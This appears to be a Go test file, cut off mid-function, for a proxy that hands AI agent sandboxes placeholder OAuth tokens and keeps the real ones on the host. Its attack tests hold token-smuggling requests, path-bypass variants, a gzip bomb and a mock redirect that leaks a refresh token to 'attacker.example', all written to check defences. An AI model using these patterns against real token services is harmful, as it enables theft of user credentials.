package inspect

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"

	"bawn.dev/bawn/internal/login"
	"bawn.dev/bawn/internal/secret"
)

const (
	tokenPath = "/v1/oauth/token"
	clientID  = "client-of-the-agent"
)

// authority is a stand-in for an authorization server with an API on the same host. Refresh tokens are
// used once; a second use revokes the login, as strict servers do.
type authority struct {
	mu      sync.Mutex
	n       int
	access  string // the one that the API takes
	refresh string
	revoked bool
	expires int
	asked   []url.Values
	hold    chan struct{}                                       // if not nil, a refresh waits for it
	answer  func(w http.ResponseWriter, fields url.Values) bool // true: it answered
}

func jwt(claims string) string {
	e := base64.RawURLEncoding.EncodeToString
	return e([]byte(`{"alg":"RS256","kid":"k1"}`)) + "." + e([]byte(claims)) + "." + e(bytes.Repeat([]byte("real-signature"), 18))
}

func fieldsOf(r *http.Request) url.Values {
	b, _ := io.ReadAll(r.Body)
	v := url.Values{}
	if strings.HasPrefix(r.Header.Get("Content-Type"), "application/json") {
		var m map[string]string
		_ = json.Unmarshal(b, &m)
		for k, s := range m {
			v.Set(k, s)
		}
		return v
	}
	v, _ = url.ParseQuery(string(b))
	return v
}

func (a *authority) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != tokenPath {
		_, _ = io.Copy(io.Discard, r.Body)
		a.mu.Lock()
		defer a.mu.Unlock()
		if r.Header.Get("Authorization") != "Bearer "+a.access || a.revoked {
			w.WriteHeader(http.StatusUnauthorized)
		}
		fmt.Fprintf(w, "%s %s", r.URL.Path, r.Header.Get("Authorization"))
		return
	}
	f := fieldsOf(r)
	a.mu.Lock()
	a.asked = append(a.asked, f)
	hold, answer := a.hold, a.answer
	a.mu.Unlock()
	if answer != nil && answer(w, f) {
		return
	}
	if hold != nil {
		<-hold
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	w.Header().Set("Content-Type", "application/json")
	if f.Get("grant_type") == "refresh_token" && (a.revoked || f.Get("refresh_token") != a.refresh) {
		a.revoked = true
		w.WriteHeader(http.StatusBadRequest)
		fmt.Fprintf(w, `{"error":"invalid_grant","error_description":"bad token %s"}`, f.Get("refresh_token"))
		return
	}
	a.n++
	a.revoked = false
	a.access, a.refresh = fmt.Sprintf("sk-ant-oat01-REAL-access-%03d-0123456789abcdefghij", a.n), fmt.Sprintf("sk-ant-ort01-REAL-refresh-%03d-0123456789abcdefghi", a.n)
	id := jwt(fmt.Sprintf(`{"exp":%d,"email":"me@example.test","plan":"max","jti":"secret-jti"}`, 1893456000+a.n))
	fmt.Fprintf(w, `{"token_type":"Bearer","access_token":%q,"expires_in":%d,"refresh_token":%q,"id_token":%q,"scope":"a b","account":{"uuid":"u-1","session_secret":"a-nested-real-secret"}}`,
		a.access, a.expires, a.refresh, id)
}

func (a *authority) real() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	list := []string{"REAL-", "real-signature", base64.RawURLEncoding.EncodeToString([]byte("real-signature"))[:16], "a-nested-real-secret", "secret-jti"}
	return append(list, a.access, a.refresh)
}

func (a *authority) requests() []url.Values {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]url.Values{}, a.asked...)
}

// definition is of an agent whose endpoint and API are on hostName.
var definition = login.Definition{Endpoints: []string{hostName + tokenPath}, API: []string{hostName}, Refuse: []string{hostName + "/v1/keys"}, Claims: []string{"plan"}}

// loginPlace is a sandbox of an agent, and its authorization server.
type loginPlace struct {
	*place
	c     *http.Client
	store *login.Store
}

// user is a person: the store of logins of several sandboxes.
type user struct {
	t       *testing.T
	config  string
	secrets *secret.Store
	store   *login.Store
	a       *authority
}

func newUser(t *testing.T) *user {
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "")
	t.Setenv("XDG_RUNTIME_DIR", "")
	dir := t.TempDir()
	u := &user{t: t, config: filepath.Join(dir, "config"), a: &authority{expires: 3600}}
	u.secrets = secret.OpenAt(u.config, filepath.Join(dir, "state"))
	u.store = login.OpenAt(u.config, filepath.Join(dir, "home"), u.secrets)
	if err := u.store.Define("agent", definition); err != nil {
		t.Fatal(err)
	}
	return u
}

// sandbox starts one of the person's.
func (u *user) sandbox(id, proto string, list ...secret.Bound) *loginPlace {
	p := newPlace(u.t, u.a, bothProtocols, list...)
	b := u.store.Sandbox(id, "box-"+id)
	b.SetAgents([]string{"agent"})
	p.i.c.Logins = b
	return &loginPlace{place: p, c: p.client(proto), store: u.store}
}

// token asks for tokens, and returns the status and the answer.
func (p *loginPlace) token(fields map[string]string) (int, map[string]any) {
	p.t.Helper()
	b, _ := json.Marshal(fields)
	res, body := p.do(p.c, request(p.t, "POST", tokenPath, bytes.NewReader(b), "Content-Type", "application/json"))
	var m map[string]any
	if json.Unmarshal([]byte(body), &m) != nil {
		m = map[string]any{"text": body}
	}
	return res.StatusCode, m
}

func (p *loginPlace) login() map[string]any {
	p.t.Helper()
	status, m := p.token(map[string]string{"grant_type": "authorization_code", "code": "the-code", "client_id": clientID, "code_verifier": "v"})
	if status != 200 {
		p.t.Fatal(status, m, p.log())
	}
	return m
}

func (p *loginPlace) refresh(token any) (int, map[string]any) {
	p.t.Helper()
	return p.token(map[string]string{"grant_type": "refresh_token", "refresh_token": token.(string), "client_id": clientID})
}

func (p *loginPlace) api(token any) (int, string) {
	p.t.Helper()
	res, body := p.do(p.c, request(p.t, "GET", "/v1/messages", nil, "Authorization", "Bearer "+token.(string)))
	return res.StatusCode, body
}

// noToken fails if a text has anything of real tokens.
func noToken(t *testing.T, a *authority, where string, v any) {
	t.Helper()
	text := fmt.Sprint(v)
	for _, real := range a.real() {
		if strings.Contains(text, real) {
			t.Errorf("%s has %q: %s", where, real, text)
		}
	}
}

// TestLogin: the guest has placeholders of all tokens, uses them, and renews them; the host has the
// tokens.
func TestLogin(t *testing.T) {
	everyProtocol(t, func(t *testing.T, proto string) {
		u := newUser(t)
		p := u.sandbox("1", proto)
		m := p.login()
		noToken(t, u.a, "the answer", m)
		access, refresh, id := m["access_token"].(string), m["refresh_token"].(string), m["id_token"].(string)
		if !strings.HasPrefix(access, "sk-ant-oat01-") || len(access) != len(u.a.access) || !strings.HasPrefix(refresh, "sk-ant-ort01-") || m["scope"] != "a b" || m["expires_in"] != float64(3600) {
			t.Errorf("%v", m)
		}
		var claims map[string]any
		b, err := base64.RawURLEncoding.DecodeString(strings.Split(id, ".")[1])
		if err != nil || json.Unmarshal(b, &claims) != nil || claims["email"] != "me@example.test" || claims["plan"] != "max" || claims["exp"] == nil || claims["jti"] != nil {
			t.Errorf("claims: %s, %v", b, err)
		}
		if res, body := p.do(p.c, request(t, "POST", "/v1/keys/", nil, "Authorization", "Bearer "+access)); res.StatusCode != 403 {
			t.Errorf("a key for the login: %d %s", res.StatusCode, body)
		}
		// A conversation in which the agent printed its file of credentials goes on.
		said := `{"messages":["` + access + ` ` + refresh + `"]}`
		if res, body := p.do(p.c, request(t, "POST", "/v1/messages", strings.NewReader(said), "Content-Type", "application/json", "Authorization", "Bearer "+access)); res.StatusCode != 200 {
			t.Errorf("placeholders as text: %d %s", res.StatusCode, body)
		}
		if status, body := p.api(access); status != 200 || body != "/v1/messages Bearer "+access {
			t.Errorf("API: %d %s", status, body)
		}
		before := u.a.refresh
		status, next := p.refresh(refresh)
		if status != 200 || next["access_token"] != access || next["refresh_token"] != refresh {
			t.Errorf("refresh: %d %v", status, next)
		}
		noToken(t, u.a, "the answer to a refresh", next)
		asked := u.a.requests()
		if got := asked[len(asked)-1]; got.Get("refresh_token") != before || got.Get("client_id") != clientID {
			t.Errorf("the server got %v", got)
		}
		if status, _ := p.api(access); status != 200 {
			t.Error("the placeholder is not that of the new token:", status)
		}
		l, err := u.store.Get("agent")
		if err != nil || l.Account != "me@example.test" || l.Sandbox != "box-1" || l.Refused != "" || time.Until(l.Expires) < 50*time.Minute {
			t.Errorf("%+v, %v", l, err)
		}
		if log := p.log(); !strings.Contains(log, "session_secret") {
			t.Errorf("a field that was left out is not told: %q", log)
		}
		index, _ := os.ReadFile(filepath.Join(u.config, "logins.json"))
		noToken(t, u.a, "the index", string(index))
		if n := files(t, filepath.Join(u.config, "secrets")); n != 3 {
			t.Errorf("%d values are kept, not 3", n)
		}
	})
}

// files counts the files below a folder, which only the user may read.
func files(t *testing.T, dir string) (n int) {
	t.Helper()
	err := filepath.WalkDir(dir, func(p string, e fs.DirEntry, err error) error {
		if err != nil || e.IsDir() {
			return err
		}
		n++
		if fi, err := e.Info(); err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v", p, fi.Mode())
		}
		return nil
	})
	if err != nil && !errors.Is(err, fs.ErrNotExist) {
		t.Fatal(err)
	}
	return n
}

// TestLoginsAreOfAllSandboxes: a second sandbox has the same placeholders, and one without the agent nothing.
func TestLoginsAreOfAllSandboxes(t *testing.T) {
	u := newUser(t)
	one, two, none := u.sandbox("1", "h2"), u.sandbox("2", "http/1.1"), u.sandbox("3", "h2")
	none.i.c.Logins.SetAgents(nil)
	m := one.login()
	if status, _ := two.api(m["access_token"]); status != 200 {
		t.Error("the other sandbox cannot use the login:", status)
	}
	if status, _ := two.refresh(m["refresh_token"]); status != 200 {
		t.Error("nor renew it:", status)
	}
	if status, _ := one.api(m["access_token"]); status != 200 {
		t.Error("the first one cannot use what the other renewed:", status)
	}
	if wants, err := none.i.Wants(hostName, 443); wants || err != nil {
		t.Error("a sandbox without the agent:", wants, err)
	}
}

// TestRefreshOfTwoSandboxesAtOnce reaches the server once: a second one would revoke the login.
func TestRefreshOfTwoSandboxesAtOnce(t *testing.T) {
	u := newUser(t)
	one, two := u.sandbox("1", "h2"), u.sandbox("2", "http/1.1")
	m := one.login()
	asked := len(u.a.requests())
	u.a.mu.Lock()
	u.a.hold = make(chan struct{})
	u.a.mu.Unlock()
	type result struct {
		status int
		m      map[string]any
	}
	results := make(chan result, 4)
	var wait sync.WaitGroup
	for range 2 {
		for _, p := range []*loginPlace{one, two} {
			wait.Go(func() {
				status, m := p.refresh(m["refresh_token"])
				results <- result{status, m}
			})
		}
	}
	for len(u.a.requests()) == asked {
		time.Sleep(time.Millisecond)
	}
	time.Sleep(100 * time.Millisecond) // the others wait by now; if they do not, they refresh by themselves, which is right too
	close(u.a.hold)
	wait.Wait()
	close(results)
	for r := range results {
		if r.status != 200 || r.m["access_token"] != m["access_token"] {
			t.Errorf("%d %v", r.status, r.m)
		}
		if in, _ := r.m["expires_in"].(float64); in < 3000 || in > 3600 {
			t.Error("expires_in", r.m["expires_in"])
		}
		noToken(t, u.a, "an answer", r.m)
	}
	for _, f := range u.a.requests() {
		if strings.Contains(f.Encode(), m["refresh_token"].(string)) {
			t.Error("a placeholder was sent")
		}
	}
	if status, _ := two.api(m["access_token"]); status != 200 {
		t.Error(status)
	}
	if n := files(t, filepath.Join(u.config, "secrets")); n != 3 {
		t.Errorf("%d values are kept, not 3", n)
	}
}

// TestRefreshGoesOnWithoutTheClient: the server has replaced the refresh token by then.
func TestRefreshGoesOnWithoutTheClient(t *testing.T) {
	everyProtocol(t, func(t *testing.T, proto string) {
		u := newUser(t)
		p := u.sandbox("1", proto)
		m := p.login()
		asked := len(u.a.requests())
		hold := make(chan struct{})
		u.a.mu.Lock()
		u.a.hold = hold
		u.a.mu.Unlock()
		ctx, cancel := context.WithCancel(t.Context())
		body := url.Values{"grant_type": {"refresh_token"}, "refresh_token": {m["refresh_token"].(string)}}.Encode()
		r := request(t, "POST", tokenPath, strings.NewReader(body), "Content-Type", "application/x-www-form-urlencoded").WithContext(ctx)
		done := make(chan error, 1)
		go func() {
			_, err := p.client(proto).Do(r)
			done <- err
		}()
		for len(u.a.requests()) == asked {
			time.Sleep(time.Millisecond)
		}
		cancel()
		if err := <-done; err == nil {
			t.Fatal("the client got an answer")
		}
		u.a.mu.Lock()
		u.a.hold = nil
		u.a.mu.Unlock()
		close(hold)
		if status, _ := p.refresh(m["refresh_token"]); status != 200 {
			t.Error("the login is lost:", status)
		}
		if status, _ := p.api(m["access_token"]); status != 200 {
			t.Error(status)
		}
	})
}

// TestRevokedLogin: the guest is told, and the person is too.
func TestRevokedLogin(t *testing.T) {
	u := newUser(t)
	p := u.sandbox("1", "h2")
	m := p.login()
	u.a.mu.Lock()
	u.a.revoked = true
	u.a.mu.Unlock()
	if status, _ := p.api(m["access_token"]); status != 401 {
		t.Error("API:", status)
	}
	status, refused := p.refresh(m["refresh_token"])
	if status != 400 || refused["error"] != "invalid_grant" || !strings.Contains(fmt.Sprint(refused["error_description"]), m["refresh_token"].(string)) {
		t.Errorf("%d %v", status, refused)
	}
	noToken(t, u.a, "the error", refused)
	if l, err := u.store.Get("agent"); err != nil || l.Refused != "invalid_grant" {
		t.Errorf("%+v, %v", l, err)
	}
	// The same code path as at first is shut for the guest, and open when the person says so.
	if status, m := p.token(map[string]string{"grant_type": "authorization_code", "code": "c"}); status != 403 || !strings.Contains(fmt.Sprint(m), "bawn login agent") {
		t.Errorf("%d %v", status, m)
	}
	if err := u.store.Open("agent", "1", time.Minute); err != nil {
		t.Fatal(err)
	}
	again := p.login()
	if again["access_token"] != m["access_token"] {
		t.Error("a new login has another placeholder")
	}
	if l, _ := u.store.Get("agent"); l.Refused != "" || !l.Window.Until.IsZero() {
		t.Errorf("%+v", l)
	}
	if status, _ := p.token(map[string]string{"grant_type": "authorization_code", "code": "c"}); status != 403 {
		t.Error("a second login in the same window:", status)
	}
	if err := u.store.Remove("agent"); err != nil {
		t.Fatal(err)
	}
	if n := files(t, filepath.Join(u.config, "secrets")); n != 0 {
		t.Errorf("%d values are left", n)
	}
	asked := len(u.a.requests())
	if status, m := p.refresh(m["refresh_token"]); status != 400 || m["error"] != "invalid_grant" || len(u.a.requests()) != asked {
		t.Errorf("after bawn logout: %d %v", status, m)
	}
}

// TestAttackStrangersLogin: another account than the person's is not taken.
func TestAttackStrangersLogin(t *testing.T) {
	t.Run("beside ours", func(t *testing.T) {
		u := newUser(t)
		p := u.sandbox("1", "h2")
		p.login()
		asked := len(u.a.requests())
		for _, f := range []map[string]string{
			{"grant_type": "refresh_token", "refresh_token": "sk-ant-ort01-of-the-attacker-0123456789"},
			{"grant_type": "authorization_code", "code": "of-the-attacker"},
			{"grant_type": "urn:ietf:params:oauth:grant-type:device_code", "device_code": "of-the-attacker"},
			{"grant_type": "password", "username": "attacker", "password": "0123456789abcdefghij"},
			{"grant_type": "client_credentials", "client_id": "attacker", "client_secret": "0123456789abcdefghij"},
			{"grant_type": "urn:ietf:params:oauth:grant-type:token-exchange", "requested_token": "api-key"},
			{"grant_type": "authorization_code", "code": "c", "assertion": "0123456789abcdefghij"},
			{"grant_type": "authorization_code", "code": "c", "access_token": "0123456789abcdefghij"},
			{},
		} {
			if status, m := p.token(f); status != 403 {
				t.Errorf("%v: %d %v", f, status, m)
			}
		}
		if n := len(u.a.requests()); n != asked {
			t.Errorf("%d requests left", n-asked)
		}
		if status, _ := p.api("sk-ant-oat01-of-the-attacker-0123456789abcdefghi"); status != 403 {
			t.Error("the attacker's token on the API:", status)
		}
	})
	t.Run("window of another sandbox", func(t *testing.T) {
		u := newUser(t)
		one, two := u.sandbox("1", "h2"), u.sandbox("2", "h2")
		one.login()
		if err := u.store.Open("agent", "2", time.Minute); err != nil {
			t.Fatal(err)
		}
		if status, _ := one.token(map[string]string{"grant_type": "authorization_code", "code": "c"}); status != 403 {
			t.Error(status)
		}
		if err := u.store.Open("agent", "2", -time.Second); err != nil {
			t.Fatal(err)
		}
		if status, _ := two.token(map[string]string{"grant_type": "authorization_code", "code": "c"}); status != 403 {
			t.Error("after its end:", status)
		}
	})
	t.Run("beside a secret", func(t *testing.T) {
		u := newUser(t)
		b := bound(secret.Place{})
		p := u.sandbox("1", "h2", b)
		if _, err := u.secrets.Set(t.Context(), b.Secret, realValue); err != nil {
			t.Fatal(err)
		}
		if status, m := p.token(map[string]string{"grant_type": "authorization_code", "code": "c"}); status != 403 || !strings.Contains(fmt.Sprint(m), "a secret or another login of the user's") {
			t.Errorf("%d %v", status, m)
		}
		if err := u.store.Open("agent", "1", time.Minute); err != nil {
			t.Fatal(err)
		}
		p.login()
	})
	t.Run("another client", func(t *testing.T) {
		u := newUser(t)
		p := u.sandbox("1", "h2")
		m := p.login()
		if status, m := p.token(map[string]string{"grant_type": "refresh_token", "refresh_token": m["refresh_token"].(string), "client_id": "another"}); status != 403 {
			t.Errorf("%d %v", status, m)
		}
	})
}

// TestAttackPlaceholdersOfALogin elsewhere than in their field are refused.
func TestAttackPlaceholdersOfALogin(t *testing.T) {
	everyProtocol(t, func(t *testing.T, proto string) {
		u := newUser(t)
		other := boundElsewhere()
		p := u.sandbox("1", proto, other)
		if err := u.store.Define("second", definition); err != nil {
			t.Fatal(err)
		}
		p.i.c.Logins.SetAgents([]string{"agent", "second"})
		m := p.login()
		access, refresh, id := m["access_token"].(string), m["refresh_token"].(string), m["id_token"].(string)
		asked := len(u.a.requests())
		form := func(v url.Values) *http.Request {
			return request(t, "POST", tokenPath, strings.NewReader(v.Encode()), "Content-Type", "application/x-www-form-urlencoded")
		}
		twice := request(t, "POST", tokenPath, strings.NewReader("grant_type=refresh_token&refresh_token="+refresh+"&refresh_token=x"), "Content-Type", "application/x-www-form-urlencoded")
		coded := request(t, "POST", tokenPath, strings.NewReader("grant_type=refresh_token&refresh_token="+refresh), "Content-Type", "application/x-www-form-urlencoded", "Content-Encoding", "br")
		for name, r := range map[string]*http.Request{
			"access as refresh":      form(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {access}}),
			"refresh in a code":      form(url.Values{"grant_type": {"authorization_code"}, "code": {refresh}}),
			"refresh with a code":    form(url.Values{"grant_type": {"authorization_code"}, "code": {"c"}, "refresh_token": {refresh}}),
			"id token":               form(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {id}}),
			"another agent's secret": form(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {elsewhere}}),
			"in a name":              form(url.Values{"grant_type": {"refresh_token"}, refresh: {"1"}}),
			"twice":                  twice,
			"coded":                  coded,
			"in the query":           request(t, "POST", tokenPath+"?refresh_token="+refresh, strings.NewReader("")),
			"another path":           request(t, "POST", "/v1/oauth/revoke", strings.NewReader("token="+refresh), "Content-Type", "application/x-www-form-urlencoded"),
			"another path, JSON":     request(t, "POST", "/v1/oauth/introspect", strings.NewReader(`{"t":"`+refresh+`"}`), "Content-Type", "application/json"),
			"a header":               request(t, "POST", tokenPath, strings.NewReader(`{"grant_type":"refresh_token"}`), "Content-Type", "application/json", "X-A", refresh),
			"bearer of the endpoint": request(t, "POST", tokenPath, strings.NewReader(`{"grant_type":"refresh_token"}`), "Content-Type", "application/json", "Authorization", "Bearer "+access),
			"refresh as bearer":      request(t, "GET", "/v1/messages", nil, "Authorization", "Bearer "+refresh),
			"id as bearer":           request(t, "GET", "/v1/messages", nil, "Authorization", "Bearer "+id),
			"access as key":          request(t, "GET", "/v1/messages", nil, "X-Api-Key", access),
			"nested":                 request(t, "POST", tokenPath, strings.NewReader(`{"grant_type":"refresh_token","refresh_token":{"a":"`+refresh+`"}}`), "Content-Type", "application/json"),
			"escaped":                request(t, "POST", tokenPath, strings.NewReader(`{"grant_type":"refresh_token","x":"\u0073`+refresh[1:]+`"}`), "Content-Type", "application/json"),
		} {
			if res, body := p.do(p.c, r); res.StatusCode/100 == 2 || strings.Contains(body, "REAL-") {
				t.Errorf("%s: %d %s", name, res.StatusCode, body)
			}
		}
		for _, path := range []string{"/v1/oauth//token", "/v1/oauth/./token", "/v1/oauth/token/", "/V1/oauth/token", "/v1/oauth/%74oken", "/v1/oauth%2Ftoken", "/v1/oauth/token;a=b", `/v1/x/../oauth/token`, "/v1/oauth/token%20", "/v1/oauth/token.json", "/v1/oauth/token."} {
			r := request(t, "POST", "/", strings.NewReader(`grant_type=authorization_code&code=c`), "Content-Type", "application/x-www-form-urlencoded")
			r.URL.Opaque = "//" + hostName + path
			if res, body := p.do(p.c, r); res.StatusCode != 403 {
				t.Errorf("%s: %d %s", path, res.StatusCode, body)
			}
		}
		if n := len(u.a.requests()); n != asked {
			t.Errorf("%d requests reached the endpoint: %v", n-asked, u.a.requests()[asked:])
		}
		noToken(t, u.a, "the log", p.log())
	})
}

// TestAttackAnswersOfTheTokenEndpoint: nothing of a token reaches the guest, whatever the answer is.
func TestAttackAnswersOfTheTokenEndpoint(t *testing.T) {
	const fresh = "sk-ant-oat01-REAL-fresh-0123456789abcdefghijkl"
	answers := map[string]func(w http.ResponseWriter, f url.Values){
		"echo": func(w http.ResponseWriter, f url.Values) {
			w.Header().Set("X-Echo", f.Get("refresh_token"))
			fmt.Fprintf(w, `{"error":"x","you_sent":%q,"coded":%q}`, f.Encode(), base64.StdEncoding.EncodeToString([]byte(f.Get("refresh_token"))))
		},
		"text": func(w http.ResponseWriter, _ url.Values) { _, _ = io.WriteString(w, "access_token="+fresh) },
		"error with tokens": func(w http.ResponseWriter, f url.Values) {
			w.WriteHeader(400)
			fmt.Fprintf(w, `{"error":"e","access_token":%q,"hint":%q,"nested":[{"session_token":%q}],"was":%q}`, fresh, fresh, fresh, f.Get("refresh_token"))
		},
		"unknown coding": func(w http.ResponseWriter, _ url.Values) {
			w.Header().Set("Content-Encoding", "br")
			_, _ = io.WriteString(w, `{"access_token":"`+fresh+`"}`)
		},
		"huge": func(w http.ResponseWriter, _ url.Values) {
			fmt.Fprintf(w, `{"access_token":%q,"pad":%q}`, fresh, strings.Repeat("a", maxLoginAnswer))
		},
		"a bomb": func(w http.ResponseWriter, _ url.Values) {
			w.Header().Set("Content-Encoding", "gzip")
			z := gzip.NewWriter(w)
			fmt.Fprintf(z, `{"access_token":%q,"pad":"`, fresh)
			for range 1000 {
				_, _ = z.Write(bytes.Repeat([]byte("a"), 1<<16))
			}
			z.Close()
		},
		"no text": func(w http.ResponseWriter, _ url.Values) { fmt.Fprintf(w, `{"access_token":[%q]}`, fresh) },
		"error in text": func(w http.ResponseWriter, _ url.Values) {
			w.WriteHeader(502)
			fmt.Fprintf(w, `{"a":1} <html>%s`, fresh)
		},
		"a list": func(w http.ResponseWriter, _ url.Values) { fmt.Fprintf(w, `[{"access_token":%q}]`, fresh) },
		"cut": func(w http.ResponseWriter, _ url.Values) {
			w.Header().Set("Content-Length", "4096")
			fmt.Fprintf(w, `{"access_token":%q`, fresh)
		},
		"too long": func(w http.ResponseWriter, _ url.Values) {
			fmt.Fprintf(w, `{"access_token":"%s"}`, strings.Repeat("REAL-", 1000))
		},
		"redirect": func(w http.ResponseWriter, f url.Values) {
			w.Header().Set("Location", "https://attacker.example/?t="+f.Get("refresh_token"))
			w.WriteHeader(307)
		},
		"twice": func(w http.ResponseWriter, _ url.Values) {
			fmt.Fprintf(w, `{"access_token":%q,"access_token":%q,"Access_Token":%q,"other_token":%q,"note":%q}`, fresh+"-one", fresh, fresh, fresh, fresh)
		},
	}
	for name, answer := range answers {
		everyProtocol(t, func(t *testing.T, proto string) {
			u := newUser(t)
			p := u.sandbox("1", proto)
			m := p.login()
			u.a.mu.Lock()
			u.a.answer = func(w http.ResponseWriter, f url.Values) bool { answer(w, f); return true }
			u.a.mu.Unlock()
			body := url.Values{"grant_type": {"refresh_token"}, "refresh_token": {m["refresh_token"].(string)}, "client_id": {clientID}}.Encode()
			res, text := p.do(p.c, request(t, "POST", tokenPath, strings.NewReader(body), "Content-Type", "application/x-www-form-urlencoded"))
			noToken(t, u.a, name, text)
			noToken(t, u.a, name+" (header)", res.Header)
			noToken(t, u.a, name+" (log)", p.log())
			if b64 := base64.StdEncoding.EncodeToString([]byte(u.a.refresh))[4:24]; strings.Contains(text, b64) {
				t.Errorf("%s: in base64: %s", name, text)
			}
			if l, err := u.store.Get("agent"); err != nil || !l.Kept() {
				t.Errorf("%s: the login is lost: %+v, %v", name, l, err)
			}
		})
	}
}

// TestAttackSpellingsOfFields: a server that is not strict could take another field than bawn judged.
func TestAttackSpellingsOfFields(t *testing.T) {
	u := newUser(t)
	p := u.sandbox("1", "h2")
	m := p.login()
	asked := len(u.a.requests())
	refresh := `"grant_type":"refresh_token","refresh_token":"` + m["refresh_token"].(string) + `"`
	for _, text := range []string{
		`{` + refresh + `,"Grant_Type":"authorization_code","code":"c"}`,
		`{` + refresh + `,"grantType":"authorization_code","code":"c"}`,
		`{` + refresh + `,"grant_type ":"authorization_code","code":"c"}`,
		`{` + refresh + `,"client_id":["another"]}`,
		`{` + refresh + `,"client_id":{"$ne":""}}`,
		`{"grant_type":["refresh_token"],"refresh_token":"` + m["refresh_token"].(string) + `"}`,
	} {
		if res, body := p.do(p.c, request(t, "POST", tokenPath, strings.NewReader(text), "Content-Type", "application/json")); res.StatusCode != 403 {
			t.Errorf("%s: %d %s", text, res.StatusCode, body)
		}
	}
	for _, field := range []string{"grant_type[]", "grant_type[0]", "grant.type", "grant%20type", "grant_type%00", "GRANT_TYPE", "refresh_token%5B%5D"} {
		text := "grant_type=refresh_token&refresh_token=" + m["refresh_token"].(string) + "&" + field + "=authorization_code&code=c"
		if res, body := p.do(p.c, request(t, "POST", tokenPath, strings.NewReader(text), "Content-Type", urlencoded)); res.StatusCode != 403 {
			t.Errorf("%s: %d %s", text, res.StatusCode, body)
		}
	}
	if n := len(u.a.requests()); n != asked {
		t.Errorf("%d requests left", n-asked)
	}
	if status, _ := p.refresh(m["refresh_token"]); status != 200 {
		t.Error("a plain refresh:", status)
	}
}

// TestAttackHeadersThatCutTheAnswer are not sent to the token endpoint, and the type of the body is bawn's own: a new refresh
// token in an answer that is not whole would be lost.
func TestAttackHeadersThatCutTheAnswer(t *testing.T) {
	u := newUser(t)
	var head atomic.Pointer[http.Header]
	p := newPlace(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h := r.Header.Clone()
		head.Store(&h)
		u.a.ServeHTTP(w, r)
	}), bothProtocols)
	b := u.store.Sandbox("1", "box")
	b.SetAgents([]string{"agent"})
	p.i.c.Logins = b
	everyProtocol(t, func(t *testing.T, proto string) {
		if err := u.store.Open("agent", "1", time.Minute); err != nil {
			t.Fatal(err)
		}
		r := request(t, "POST", tokenPath, strings.NewReader(`{"grant_type":"authorization_code","code":"c"}`), "Content-Type", "application/json; charset=utf-7")
		for _, name := range notSent {
			if name != "Content-Length" && name != "Expect" && name != "Upgrade" {
				r.Header.Set(name, "bytes=0-9")
			}
		}
		if res, body := p.do(p.client(proto), r); res.StatusCode != 200 {
			t.Fatal(res.StatusCode, body)
		}
		got := *head.Load()
		for _, name := range notSent {
			if got.Get(name) != "" && name != "Content-Length" {
				t.Errorf("%s: %s", name, got.Get(name))
			}
		}
		if got.Get("Content-Type") != "application/json" {
			t.Error(got.Get("Content-Type"))
		}
	})
}

// TestAttackGuestThatDoesNotReadItsTokens does not keep other sandboxes from theirs: the login is free once the answer is
// kept, is repeated, or is refused.
func TestAttackGuestThatDoesNotReadItsTokens(t *testing.T) {
	for name, answer := range map[string]func(w http.ResponseWriter, fields url.Values) bool{
		"tokens": nil,
		"no JSON": func(w http.ResponseWriter, _ url.Values) bool {
			_, _ = io.WriteString(w, "<html>")
			return true
		},
	} {
		t.Run(name, func(t *testing.T) {
			u := newUser(t)
			one, two := u.sandbox("1", "h2"), u.sandbox("2", "h2")
			m := one.login()
			asked := len(u.a.requests())
			hold := make(chan struct{})
			u.a.mu.Lock()
			u.a.hold, u.a.answer = hold, answer
			u.a.mu.Unlock()
			unread(t, one.place, url.Values{"grant_type": {"refresh_token"}, "refresh_token": {m["refresh_token"].(string)}}.Encode())
			for len(u.a.requests()) == asked {
				time.Sleep(time.Millisecond)
			}
			u.a.mu.Lock()
			u.a.answer = nil
			u.a.mu.Unlock()
			close(hold)
			if status, m := two.refresh(m["refresh_token"]); status != 200 {
				t.Error("the other sandbox:", status, m)
			}
		})
	}
}

// unread asks for tokens twice on one connection, and lets no byte of an answer's body come.
func unread(t *testing.T, p *place, body string) {
	t.Helper()
	c := p.dial(t, "h2")
	t.Cleanup(func() { c.Close() })
	f := startHTTP2(c, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	head := headBlock(":method", "POST", ":scheme", "https", ":authority", hostName, ":path", tokenPath, "content-type", urlencoded)
	for stream := uint32(1); stream <= 3; stream += 2 {
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndHeaders: true})
		if err = errors.Join(err, f.WriteData(stream, true, []byte(body))); err != nil {
			t.Fatal(err)
		}
	}
}

// TestAttackManyRequestsForTokens: those above the bound are refused, and the login goes on.
func TestAttackManyRequestsForTokens(t *testing.T) {
	u := newUser(t)
	p := u.sandbox("1", "h2")
	m := p.login()
	hold := make(chan struct{})
	u.a.mu.Lock()
	u.a.hold = hold
	u.a.mu.Unlock()
	var wait sync.WaitGroup
	var mu sync.Mutex
	count := map[int]int{}
	for range 4 * maxExchanges {
		wait.Go(func() {
			status, _ := p.refresh(m["refresh_token"])
			mu.Lock()
			defer mu.Unlock()
			count[status]++
		})
	}
	for {
		mu.Lock()
		n := count[503]
		mu.Unlock()
		if n == 3*maxExchanges {
			break
		}
		time.Sleep(time.Millisecond)
	}
	close(hold)
	wait.Wait()
	if count[200] != maxExchanges || len(count) != 2 {
		t.Errorf("%v", count)
	}
	if status, _ := p.refresh(m["refresh_token"]); status != 200 {
		t.Error("afterwards:", status)
	}
}

// TestDeviceCode: polling is passed on until the server has tokens.
func TestDeviceCode(t *testing.T) {
	u := newUser(t)
	p := u.sandbox("1", "h2")
	pending := true
	u.a.answer = func(w http.ResponseWriter, _ url.Values) bool {
		if pending {
			w.WriteHeader(400)
